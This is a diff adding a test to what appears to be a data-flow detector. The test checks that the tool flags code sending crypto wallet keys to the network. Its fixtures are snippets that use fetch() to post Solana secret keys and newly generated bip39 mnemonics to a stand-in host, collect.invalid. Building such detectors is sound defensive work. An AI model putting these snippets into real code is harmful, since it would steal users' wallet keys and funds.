@@ -53,4 +53,23 @@ describe('wallets', () => {
     ]);
     assert.deepEqual(sign(`JSON.stringify({ primaryType: 'Login', message: { nonce: d } })`), []);
   });
+
+  it('have keys, by whatever name they are given and made', () => {
+    const sent = 'key-material>network@collect.invalid';
+    const send = (code: string) =>
+      flowsOf(`const web3 = require('@solana/web3.js'), bip39 = require('bip39'); ${code}`);
+    for (const code of [
+      `exports.f = (s) => { const k = web3.Keypair.fromSecretKey(s); fetch('https://collect.invalid', { method: 'POST', body: k.secretKey }); };`,
+      `exports.f = (e, t) => { fetch('https://collect.invalid/' + t); return web3.Keypair.fromSecretKey(t); };`,
+      `exports.f = (k) => { fetch('https://collect.invalid/' + k); return new Wallet(k); };`,
+      `exports.f = () => { const m = bip39.generateMnemonic(); fetch('https://collect.invalid/' + m); return m; };`,
+    ])
+      assert.ok(send(code).includes(sent), code);
+    assert.deepEqual(
+      send(
+        `exports.f = (e, t) => { fetch('https://rpc.invalid/' + e); return web3.Keypair.fromSecretKey(t); };`,
+      ).filter((flow) => flow.startsWith('key-material')),
+      [],
+    );
+  });
 });
